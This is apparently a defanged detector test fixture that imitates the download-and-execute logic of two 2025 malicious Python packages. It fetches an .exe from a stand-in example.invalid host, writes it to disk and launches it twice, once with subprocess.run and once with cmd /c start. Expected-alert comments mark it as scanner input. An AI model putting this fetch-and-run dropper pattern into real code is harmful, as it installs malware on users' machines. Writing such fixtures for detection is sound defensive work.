# Shape of "testingpkgja" and "pulsecord" (2025): setup() writes the download
# through a Path and returns it, the caller hands it on, and another helper
# starts it as `str(path)`; the copy goes through shutil.copyfileobj.
# Defanged: example.invalid.
import shutil
import subprocess
from pathlib import Path

import requests

URL = "https://cdn.example.invalid/attachments/1/calc.exe"
OUT = "helper.exe"


def setup(url: str, out_name: str) -> Path:
    response = requests.get(url, timeout=20)
    response.raise_for_status()
    path = Path(out_name)
    path.write_bytes(response.content)
    return path


def fetch_stream(url, dest):
    r = requests.get(url, stream=True)
    with open(dest, "wb") as f:
        shutil.copyfileobj(r.raw, f)
    return dest


def confirm(path: Path):
    subprocess.run([str(path)], check=False)  # expect: HS107 critical


def install():
    path = setup(URL, OUT)
    confirm(path)
    other = fetch_stream(URL, "second.exe")
    subprocess.Popen(f'cmd /c start "" "{other}"', shell=True)  # expect: HS107 critical
